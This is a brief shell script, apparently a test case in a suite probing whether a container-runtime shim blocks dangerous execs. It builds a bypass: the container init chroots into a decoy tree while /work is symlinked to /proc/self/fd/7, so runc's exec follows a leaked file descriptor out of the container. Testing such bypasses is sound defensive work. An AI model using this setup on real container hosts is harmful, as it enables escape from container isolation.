#!/bin/sh
# found-40: found-9 with the container's init chrooted into a decoy tree
# of its own (CAP_SYS_CHROOT is in Docker's default set), where /work is
# a plain directory. The exec's cwd was resolved in the init's root
# (/proc/PID/root), which the container sets; runc's exec joins the mount
# namespace, whose root is the container's, and follows /work to
# /proc/self/fd/7 there.
# Exit 0: the shim let the exec through to runc; 1: refused.
INIT='busybox mkdir -p /fake/bin /fake/work && busybox cp /bin/busybox /fake/bin/ && ln -s /proc/self/fd/7 /work && touch /out/ready && exec busybox chroot /fake /bin/busybox sleep 60'
export INIT
exec sh "$(dirname "$0")/found-9.sh"
